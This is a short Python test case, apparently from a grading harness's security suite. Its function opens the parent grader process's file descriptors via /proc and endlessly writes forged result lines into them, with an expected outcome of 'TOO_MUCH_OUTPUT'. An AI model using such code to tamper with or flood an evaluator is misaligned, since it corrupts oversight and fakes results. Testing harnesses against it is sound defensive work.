# attack: floods the grader's own door, which it opens by its parent's descriptors, with lines in its own name
# checks: reads, sent
# outcome: reads=TOO_MUCH_OUTPUT
import os


def read_all(bootstrap, topic, group, handle):
    parent, number, ends = os.getppid(), os.getcwd().rsplit("-", 1)[1], []
    for name in os.listdir(f"/proc/{parent}/fd"):
        try:
            if int(name) > 2:
                ends.append(os.open(f"/proc/{parent}/fd/{name}", os.O_WRONLY | os.O_NONBLOCK))
        except OSError:
            continue
    while True:
        for end in ends:
            try:
                os.write(end, f'[{number}, ""]\n'.encode() * 100)
            except OSError:
                continue
